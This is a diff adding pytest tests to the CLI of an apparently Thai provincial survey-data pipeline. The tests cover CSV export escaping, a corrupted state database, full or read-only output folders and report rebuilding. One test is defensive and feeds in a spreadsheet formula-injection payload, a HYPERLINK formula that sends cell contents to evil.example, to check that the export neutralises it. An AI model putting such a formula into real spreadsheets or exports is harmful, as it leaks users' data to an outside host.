@@ -7,12 +7,14 @@ import io
 import json
 import subprocess
 import sys
+from datetime import datetime
 from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
 
 from pipeline.cli import COMMANDS, build_parser, main
+from tests.conftest import write_settings
 
 
 def run(*args: str) -> subprocess.CompletedProcess[str]:
@@ -129,3 +131,128 @@ def test_check_config(settings_file: Path) -> None:
     out = run("check-config", "--config", str(settings_file))
     assert out.returncode == 0, out.stderr
     assert "province พะเยา (56), fiscal year 2567" in out.stdout
+
+
+def test_export_csv_keeps_formula_text_inert(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    from pipeline.config import load_settings
+    from pipeline.models import Column, Table
+    from pipeline.state import State
+
+    cfg = write_settings(tmp_path)
+    members = Table(
+        name="registry_members",
+        title="ทะเบียน",
+        columns=[Column("name", "ชื่อ", 20, "user"), Column("change", "เปลี่ยนแปลง", 8, "int")],
+        rows=[
+            ['=HYPERLINK("http://evil.example/?x="&A1,"คลิก")', -5],
+            ["+66 81 234 5678", 3],
+            ["-ไม่มี-", 0],
+            ["@SUM(A1:A2)", 1],
+            ["\tแท็บ", 2],
+            ["\rCR", 2],
+            ["นายสมชาย ใจดี", 7],
+        ],
+    )
+    with State(load_settings(cfg).state_db) as state:
+        state.commit_sync(datetime(2024, 7, 1, 12), {}, [members], [])
+    assert main(["export", "registry_members", "--format", "csv", "--config", str(cfg)]) == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
+    assert rows[1:] == [
+        ['\'=HYPERLINK("http://evil.example/?x="&A1,"คลิก")', "-5"],
+        ["'+66 81 234 5678", "3"],
+        ["'-ไม่มี-", "0"],
+        ["'@SUM(A1:A2)", "1"],
+        ["'\tแท็บ", "2"],
+        ["'\rCR", "2"],
+        ["นายสมชาย ใจดี", "7"],
+    ]
+    assert main(["export", "registry_members", "--format", "json", "--config", str(cfg)]) == 0
+    assert json.loads(capsys.readouterr().out)[0]["name"].startswith("=HYPERLINK")  # JSON is data: as it is
+
+
+@pytest.fixture
+def synced(tmp_path: Path) -> Path:
+    """Two forms' demo responses (one of which makes the province's report), synced once."""
+    from pipeline.config import load_settings
+    from pipeline.demo import write_demo
+
+    cfg = write_settings(
+        tmp_path,
+        sources={
+            "tambon_assessment": {
+                "schema": "tambon_assessment",
+                "spreadsheet": "resp",
+                "tab": "การตอบแบบฟอร์ม 1",
+            },
+            "progress_assessment": {
+                "schema": "progress_assessment",
+                "spreadsheet": "progress",
+                "tab": "การตอบแบบฟอร์ม 1",
+            },
+        },
+    )
+    write_demo(load_settings(cfg))
+    assert main(["sync", "--config", str(cfg), "--today", "2024-07-01"]) == 0
+    return cfg
+
+
+def test_a_page_corrupted_state_is_exit_5_with_the_fix_for_sync_and_remind(synced: Path) -> None:
+    state = synced.parent / "state" / "pipeline.sqlite"
+    data = bytearray(state.read_bytes())
+    page = int.from_bytes(data[16:18], "big")
+    data[page:] = bytes(len(data) - page)  # every page but the first (the schema) zeroed
+    state.write_bytes(bytes(data))
+    for command in (["sync"], ["remind", "--today", "2024-06-18"]):
+        out = run(*command, "--config", str(synced))
+        assert out.returncode == 5, out.stderr
+        assert "Traceback" not in out.stderr
+        assert "damaged" in out.stderr and "fix:" in out.stderr and "ฐานข้อมูลสถานะเสียหาย" in out.stderr
+
+
+@pytest.mark.parametrize(
+    ("where", "code", "says"), [("data", 30, "cannot write to"), ("reports", 28, "is full")]
+)
+def test_a_read_only_or_full_output_folder_is_exit_7_with_the_fix(
+    synced: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+    where: str,
+    code: int,
+    says: str,
+) -> None:
+    import os
+
+    from pipeline import files
+
+    real = os.replace
+
+    def refuse(src: str | Path, dst: str | Path) -> None:
+        if (Path(dst).parent.name == "reports") == (where == "reports"):
+            raise OSError(code, os.strerror(code), str(dst))
+        real(src, dst)
+
+    summary = synced.parent / "data" / "demo-summary.xlsx"
+    summary.unlink()  # so the next sync writes the workbook and the report
+    capsys.readouterr()
+    monkeypatch.setattr(files, "_replace", refuse)
+    assert main(["sync", "--config", str(synced), "--today", "2024-07-01"]) == 7
+    err = capsys.readouterr().err
+    assert says in err and "fix:" in err and ("ดิสก์" in err or "เขียนไฟล์" in err)
+    assert not list((synced.parent / "data").rglob(".*.tmp"))
+    monkeypatch.undo()
+    assert (
+        main(["sync", "--config", str(synced), "--today", "2024-07-01"]) == 0
+    )  # fixed: the next run catches up
+    assert summary.exists()
+
+
+def test_a_deleted_report_is_rebuilt_though_nothing_changed(
+    synced: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    reports = sorted((synced.parent / "data" / "reports").iterdir())
+    assert [p.suffix for p in reports] == [".html", ".pdf"]
+    assert main(["sync", "--config", str(synced), "--today", "2024-07-01"]) == 0
+    assert "unchanged" in capsys.readouterr().out
+    reports[1].unlink()
+    assert main(["sync", "--config", str(synced), "--today", "2024-07-01"]) == 0
+    assert "published" in capsys.readouterr().out and reports[1].exists()
